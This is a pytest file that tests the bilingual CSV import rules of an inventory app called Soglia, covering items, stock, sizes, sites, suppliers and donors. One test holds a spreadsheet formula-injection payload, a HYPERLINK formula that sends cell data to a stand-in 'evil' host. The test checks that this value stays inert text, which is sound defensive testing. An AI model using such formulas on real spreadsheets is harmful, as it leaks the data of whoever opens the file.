# SPDX-FileCopyrightText: 2026 Soglia contributors
# SPDX-License-Identifier: AGPL-3.0-or-later
"""What rows may say: columns in two languages, cells that mean one thing, a reason for each that does not."""

from datetime import UTC, datetime
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.catalogue.rules import NewItem
from app.demo.goods import CUTS
from app.errors import DomainError
from app.folding import folded
from app.importing import rules
from app.importing.rules import (
    COLUMNS,
    KINDS,
    Body,
    DonorReader,
    Known,
    Names,
    SiteReader,
    Stocked,
    StockReader,
    SupplierReader,
    already_imported,
    check_taken,
    places_of,
)
from app.importing.rules.columns import same_title
from app.importing.rules.sizes import is_size
from app.spreadsheets import Faults, Row, Sheet, read
from app.stock.rules import Traits
from tests.importing.files import BEDDING, ITEMS, SHOES, csv, faults, item_reader, plan_of

# ---------------------------------------------------------------- columns


@pytest.mark.parametrize(
    ("kind", "header", "places"),
    [
        ("items", ["Codice", "NOME", "categoria"], {"sku": 0, "name": 1, "category": 2}),
        ("items", ["Category", "Code", "Item"], {"category": 0, "sku": 1, "name": 2}),
        ("items", ["sku", "name", "category", "unit_value"], {"sku": 0, "name": 1, "category": 2, "unit_value": 3}),
        ("stock", ["Quantita'", "GTIN", "Scade il"], {"quantity": 0, "code": 1, "expires_on": 2}),
        ("stock", ["q.tà", "codice a barre", "SITO"], {"quantity": 0, "code": 1, "site": 2}),
        ("sites", ["nome", "tipo", "Ente"], {"name": 0, "kind": 1, "organisation": 2}),
        ("suppliers", ["nome", "P. IVA", "giorni"], {"name": 0, "tax_code": 1, "lead_time_days": 2}),
        ("donors", ["tipo", "Ragione sociale"], {"kind": 0, "name": 1}),
    ],
)  # fmt: skip
def test_columns_are_known_in_both_languages_whatever_their_case_and_accents(
    kind: str, header: list[str], places: dict[str, int]
) -> None:
    assert places_of(kind, header) == places


def test_no_title_stands_for_two_columns() -> None:
    for kind, columns in COLUMNS.items():
        titles = [title for column in columns for title in {same_title(one) for one in column.titles}]
        assert len(titles) == len(set(titles)), kind
        assert places_of(kind, [column.italian for column in columns])
        assert places_of(kind, [column.english for column in columns])


@pytest.mark.parametrize(
    ("header", "named"),
    [
        (["codice", "nome", "categoria", "colore", "stagione"], "colore, stagione"),
        (["codice", "sku", "nome", "categoria"], "codice, sku"),
        (["nome"], "codice (code), categoria (category)"),
        ([f"colonna {n}" for n in range(40)], ", ".join(f"colonna {n}" for n in range(10)) + ", …"),
    ],
)
def test_columns_that_are_unknown_twice_or_missing_are_named(header: list[str], named: str) -> None:
    with pytest.raises(DomainError) as refused:
        places_of("items", header)
    assert (refused.value.code, refused.value.status, refused.value.details["named"]) == ("import_columns", 422, named)
    assert "codice (code)" in refused.value.details["accepted"]
    assert named in refused.value.message % refused.value.details


# ---------------------------------------------------------------- items


def test_items_are_read_as_they_stand_in_an_italian_list() -> None:
    head = "Codice;Nome;Categoria;Prodotto;Taglia;Genere;Codice a barre;Scadenza;Valore"
    rows = ("sca-44;Scarpe uomo;CALZATURE;Scarpe;44;Uomo;9520000000011;Sì;27,90", "SAP;Sapone;letto;;;;;;")
    plan = plan_of("items", csv(head, *rows), item_reader())
    assert faults(plan) == [] and plan.rows_read == 2 and plan.refused == 0
    assert plan.rows == [
        NewItem("SCA-44", "Scarpe uomo", SHOES, "Scarpe", "44", "m", "09520000000011", True, 2790),
        NewItem("SAP", "Sapone", BEDDING),
    ]


@pytest.mark.parametrize(
    ("row", "column", "said"),
    [
        (";Calze;Letto;;", "codice", "needed"),
        ("A1;\u200b;Letto;;", "nome", "needed"),
        ("A1;Calze;Letti;;", "categoria", "no category Letti"),
        ("A 1!;Calze;Letto;;", "codice", "1 to 40 letters"),
        ("A1;" + "x" * 121 + ";Letto;;", "nome", "longer than 120"),
        ("A1;Calze;Letto;XQL;", "taglia", "no size that is known"),
        ("A1;Calze;Letto;44;27,999", "valore", "two ways"),
        ("A1;Calze;Letto;44;1.000,00", "valore", "two ways"),
        ("A1;Calze;Letto;44;-1", "valore", "0 to 100000000"),
        ("A1;Calze;Letto;44;1E+10000000", "valore", "Write euros"),
        ("A1;Calze;Letto;44;gratis", "valore", "Write euros"),
        ("OLD;Calze;Letto;;", "codice", "already stands"),
        ("o'ld;Calze;Letto;;", "codice", "1 to 40 letters"),
    ],
)
def test_a_row_that_cannot_be_an_item_says_where_and_why(row: str, column: str, said: str) -> None:
    plan = plan_of("items", csv(ITEMS, "B1;Calze;Letto;43-46;1,10", row), item_reader(codes={"OLD"}))
    assert [(line, title) for line, title, _ in faults(plan)] == [(3, column)]
    assert said in faults(plan)[0][2]
    assert [one.sku for one in plan.rows] == ["B1"] and plan.refused == 1


def test_a_row_says_everything_that_is_wrong_with_it() -> None:
    plan = plan_of("items", csv(ITEMS, "!;Calze;Letti;XQL;27,999"), item_reader())
    assert [title for _, title, _ in faults(plan)] == ["codice", "categoria", "taglia", "valore"]
    assert plan.rows == [] and plan.refused == 1


def test_a_code_stands_once_in_a_file_however_it_is_written() -> None:
    head = "codice;nome;categoria;codice a barre"
    rows = ("A-1;x;Letto;9520000000011", "a1;y;Letto;", "A2;z;Letto;09520000000011", "9520000000011;w;Letto;")
    plan = plan_of("items", csv(head, *rows), item_reader())
    assert [(line, title) for line, title, _ in faults(plan)] == [(3, "codice"), (4, "codice a barre"), (5, "codice")]
    assert all("line 2" in said for _, _, said in faults(plan))


def test_the_code_of_an_item_and_its_barcode_differ() -> None:
    head = "codice;nome;categoria;codice a barre"
    plan = plan_of("items", csv(head, "9520000000011;x;Letto;9520000000011"), item_reader())
    assert [title for _, title, _ in faults(plan)] == ["codice a barre"]


def test_a_barcode_that_does_not_add_up_or_is_in_use_is_refused() -> None:
    head = "codice;nome;categoria;codice a barre"
    rows = ("A1;x;Letto;9520000000012", "A2;x;Letto;9520000000011", "A3;x;Letto;2000000000008")
    plan = plan_of("items", csv(head, *rows), item_reader(codes={"09520000000011"}))
    assert [line for line, title, _ in faults(plan) if title == "codice a barre"] == [2, 3, 4]


@pytest.mark.parametrize(
    "size",
    [
        *("44", "42,5", "42½", "43-46", "XL", "3XL", "S/M", "3ª B", "0-3 m", "14 anni", "60 l"),
        *("50x100 cm", "unica", "W32/L34"),
    ],
)
def test_sizes_look_like_sizes(size: str) -> None:
    assert is_size(size)


def test_every_size_of_the_demo_is_one() -> None:
    assert [size for cut in CUTS for size, _ in cut.axis if not is_size(size)] == []


@pytest.mark.parametrize(
    "size", ["", "44 1/3x", "XQL", "4XM", "grandissima", "1000", "=1+1", "\u0664\u0664", "M\n", "--"]
)
def test_what_looks_like_no_size_is_none(size: str) -> None:
    assert not is_size(size)


def test_a_size_that_an_item_comes_in_already_is_known() -> None:
    rows = csv(ITEMS, "A1;x;Letto;Extra Càldo;")
    assert plan_of("items", rows, item_reader(sizes=frozenset({"extra caldo"}))).rows[0].size == "Extra Càldo"
    assert plan_of("items", rows, item_reader()).rows == []


def test_line_breaks_inside_a_cell_become_blanks_and_a_formula_stays_text() -> None:
    text = csv(ITEMS, '"A1";"Calze\r\ndi lana";Letto;;', 'A2;"=HYPERLINK(""http://evil/?""&A1)";Letto;;')
    assert [one.name for one in plan_of("items", text, item_reader()).rows] == [
        "Calze di lana",
        '=HYPERLINK("http://evil/?"&A1)',
    ]


# ---------------------------------------------------------------- stock

HERE, THERE = UUID(int=7), UUID(int=8)
SOCK, SHOE, OLD, PACKED = UUID(int=11), UUID(int=12), UUID(int=13), UUID(int=11)
GOODS = {
    "CAL43": Stocked(SOCK, "Calze cotone", "Calze", "43-46", 1, False),
    "09520000000011": Stocked(SOCK, "Calze cotone", "Calze", "43-46", 1, False),
    "SCA44": Stocked(SHOE, "Scarpe uomo", "Scarpe", None, 1, False),
    "OLD": Stocked(OLD, "Vecchio", "Vecchio", None, 1, True),
    "19520000000018": Stocked(SOCK, "Calze cotone", "Calze", "43-46", 12, False),
}
STOCK = "codice;quantità"


def stock_reader(site_id: UUID | None = HERE) -> StockReader:
    named = [("S2AAAAAAAA", HERE), ("Punto", HERE), ("Unità di strada", THERE), ("Doppio", HERE), ("doppio", THERE)]
    return StockReader(Names(named), GOODS, site_id)


def test_stock_is_read_with_everything_that_makes_a_lot() -> None:
    head = "sito;codice;nome;taglia;quantità;lotto;scade;valore;finanziamento;condizione"
    rows = (
        "unita DI strada;cal-43;calze COTONE;43-46;1200;L7;20/12/2027;1,10;Programma;nuovo",
        ";9520000000011;Calze cotone 43-46;;1;;;;;",
        "s2aaaaaaaa;SCA-44;;;2;;2027-01-31;;;",
    )
    reader = stock_reader()
    plan = plan_of("stock", csv(head, *rows), reader)
    assert faults(plan) == [] and reader.needed_site
    first, second, third = plan.rows
    assert (first.site_id, first.item_id, first.quantity) == (THERE, SOCK, 1200)
    assert first.traits == Traits("L7", datetime(2027, 12, 20, tzinfo=UTC).date(), 110, "programme", "new")
    assert (second.site_id, second.item_id, second.traits) == (HERE, SOCK, Traits(funding="own"))
    assert (third.site_id, str(third.traits.expires_on)) == (HERE, "2027-01-31")


def test_a_file_that_names_every_site_does_not_need_one() -> None:
    reader = stock_reader(None)
    assert plan_of("stock", csv("sito;" + STOCK, "Punto;CAL43;5"), reader).rows and not reader.needed_site


@pytest.mark.parametrize(
    ("quantity", "said"),
    [
        ("3 kg", "has a unit"),
        ("12 pz", "has a unit"),
        ("2 confezioni", "has a unit"),
        ("1,5", "two ways"),
        ("1.000", "two ways"),
        ("0", "1 to 100000"),
        ("-4", "1 to 100000"),
        ("100001", "1 to 100000"),
        ("1E+10000000", "whole number"),
        ("\u0661\u0662", "whole number"),
        ("dieci", "whole number"),
        ("", "needed"),
    ],
)
def test_quantities_are_whole_pieces_written_in_one_way(quantity: str, said: str) -> None:
    plan = plan_of("stock", csv(STOCK, f"CAL43;{quantity}"), stock_reader())
    assert [(line, title) for line, title, _ in faults(plan)] == [(2, "quantità")]
    assert said in faults(plan)[0][2] and plan.rows == []


@pytest.mark.parametrize(
    ("head", "row", "column", "said"),
    [
        (STOCK, "NIENTE;1", "codice", "No item has the code NIENTE"),
        (STOCK, "OLD;1", "codice", "archived"),
        (STOCK, "19520000000018;1", "codice", "pack of 12"),
        ("codice;quantità;sito", "CAL43;1;Altrove", "sito", "no site Altrove"),
        ("codice;quantità;sito", "CAL43;1;doppio", "sito", "Several sites"),
        ("codice;quantità;nome", "CAL43;1;Scarpe", "nome", "Calze cotone"),
        ("codice;quantità;taglia", "CAL43;1;44", "taglia", "43-46"),
        ("codice;quantità;taglia", "SCA44;1;44", "taglia", "no sizes"),
        ("codice;quantità;scade", "CAL43;1;31/02/2027", "scade", "Write a day"),
        ("codice;quantità;scade", "CAL43;1;2400-01-01", "scade", "1970 to 2199"),
        ("codice;quantità;finanziamento", "CAL43;1;stato", "finanziamento", "none of"),
        ("codice;quantità;condizione", "CAL43;1;rotto", "condizione", "none of"),
        ("codice;quantità;lotto", "CAL43;1;" + "L" * 41, "lotto", "longer than 40"),
    ],
)
def test_a_line_of_stock_that_cannot_be_taken_says_where_and_why(head: str, row: str, column: str, said: str) -> None:
    plan = plan_of("stock", csv(head, row), stock_reader())
    assert [(line, title) for line, title, _ in faults(plan)] == [(2, column)]
    assert said in faults(plan)[0][2] and plan.rows == []


def test_without_a_site_a_line_says_so() -> None:
    plan = plan_of("stock", csv(STOCK, "CAL43;1"), stock_reader(None))
    assert faults(plan) == [(2, "", "No site is named: write it here, or choose one for the whole file.")]


# ---------------------------------------------------------------- sites, suppliers, donors

PONTE, PISA, LUCCA = UUID(int=21), UUID(int=22), UUID(int=23)


def test_sites_are_read_and_told_apart() -> None:
    reader = SiteReader(
        Names([("Cooperativa Ponte", Body(PONTE, PISA))]), Names([("PI", PISA), ("Lucca", LUCCA)]), {(PONTE, "punto")}
    )
    head = "nome;tipo;ente;ambito;indirizzo"
    rows = (
        "Nuovo;Unità di strada;cooperativa ponte;pi;Via Roma 1",
        "PÙNTO;punto;Cooperativa Ponte;;",
        "nuovo;magazzino;Cooperativa Ponte;;",
        "Altro;bar;Cooperativa Ponte;;",
        "Altro;punto;Nessuno;;",
        "Altro;punto;Cooperativa Ponte;Lucca;",
    )
    plan = plan_of("sites", csv(head, *rows), reader)
    assert plan.rows == [{"organisation_id": PONTE, "kind": "street_unit", "name": "Nuovo", "address": "Via Roma 1"}]
    assert [(line, title) for line, title, _ in faults(plan)] == [
        (3, "nome"),
        (4, "nome"),
        (5, "tipo"),
        (6, "ente"),
        (7, "ambito"),
    ]


def test_suppliers_are_read_and_told_apart() -> None:
    reader = SupplierReader(Known({"00000000018"}, {"esempio"}))
    head = "nome;p.iva;giorni;ordine minimo;email;indirizzo;note"
    rows = (
        "Forniture;IT 12345678903;10;150,00;a@b.it;Via 1;x",
        "Altri;00000000018;10;;;;",
        "Esèmpio;;10;;;;",
        "Terzi;12345678903;10;;;;",
        "Quarti;12345678901;10;;;;",
        "Quinti;;dieci;;;;",
        "Sesti;;731;;;;",
    )
    plan = plan_of("suppliers", csv(head, *rows), reader)
    assert [(one["name"], one["tax_code"], one["min_order_cents"]) for one in plan.rows] == [
        ("Forniture", "12345678903", 15000)
    ]
    assert [(line, title) for line, title, _ in faults(plan)] == [
        (3, "p.iva"),
        (4, "nome"),
        (5, "p.iva"),
        (6, "p.iva"),
        (7, "giorni"),
        (8, "giorni"),
    ]


def test_donors_keep_nothing_about_a_person() -> None:
    rows = (
        "azienda;Panificio;12345678903;Via 1;",
        "privato;;;;",
        "privato;Mario;RSSMRA85T10A562S;;",
        "ente;;;;",
        "boh;x;;;",
    )
    plan = plan_of("donors", csv("tipo;nome;p.iva;indirizzo;email", *rows), DonorReader(Known(set(), set())))
    assert [one["kind"] for one in plan.rows] == ["company", "private"]
    assert [(line, title) for line, title, _ in faults(plan)] == [(4, "p.iva"), (5, "nome"), (6, "tipo")]


# ---------------------------------------------------------------- the whole file


def test_nothing_is_taken_when_a_row_is_refused_unless_the_good_ones_are_asked_for() -> None:
    good = plan_of("items", csv(ITEMS, "A1;x;Letto;;"), item_reader())
    mixed = plan_of("items", csv(ITEMS, "A1;x;Letto;;", "A2;x;;;"), item_reader())
    bad = plan_of("items", csv(ITEMS, "A2;x;;;"), item_reader())
    check_taken(good, partial=False, faults=[])
    check_taken(mixed, partial=True, faults=[])
    for plan, partial in ((mixed, False), (bad, False), (bad, True)):
        with pytest.raises(DomainError) as refused:
            check_taken(plan, partial=partial, faults=[{"line": 2}])
        assert refused.value.code == "import_refused" and refused.value.status == 422
        assert refused.value.details == {"refused": 1, "read": plan.rows_read, "faults": [{"line": 2}]}
        assert refused.value.message % refused.value.details


def test_ragged_rows_are_left_out_and_counted() -> None:
    plan = plan_of("items", csv(ITEMS, "A1;x;Letto;;", "A2;x;Letto", "A3;x;Letto;;;;y"), item_reader())
    assert [(line, title) for line, title, _ in faults(plan)] == [(3, ""), (4, "")]
    assert (plan.rows_read, plan.refused, [one.sku for one in plan.rows]) == (3, 2, ["A1"])


def test_a_known_file_says_when_it_came() -> None:
    refusal = already_imported(datetime(2026, 11, 26, 23, 30, tzinfo=UTC))
    assert (refusal.code, refusal.status) == ("already_imported", 409)
    assert "27/11/2026 00:30" in refusal.message % refusal.details


def test_readers_hear_every_row() -> None:
    heard: list[int] = []
    sheet = read("x.csv", csv(ITEMS, *(f"A{n};x;Letto;;" for n in range(1_203))).encode())
    rules.plan("items", sheet, places_of("items", sheet.header), item_reader(), heard.append)
    assert sum(heard) == 1_203


@given(st.text())
def test_folding_twice_changes_nothing(text: str) -> None:
    assert folded(folded(text)) == folded(text)


@given(st.sampled_from(KINDS), st.lists(st.text(max_size=30), max_size=12))
def test_any_head_is_read_or_refused_in_words(kind: str, header: list[str]) -> None:
    try:
        assert set(places_of(kind, header).values()) == set(range(len(header)))
    except DomainError as refused:
        assert refused.message % refused.details


@given(st.lists(st.lists(st.text(max_size=20), min_size=5, max_size=5), min_size=1, max_size=6))
def test_any_row_is_taken_or_refused_by_its_line(rows: list[list[str]]) -> None:
    head = ITEMS.split(";")
    sheet = Sheet(head, [Row(line, list(cells)) for line, cells in enumerate(rows, 2)], Faults(), "csv")
    plan = rules.plan("items", sheet, places_of("items", head), item_reader())
    assert len(plan.rows) + len(plan.faults.lines) == len(rows)
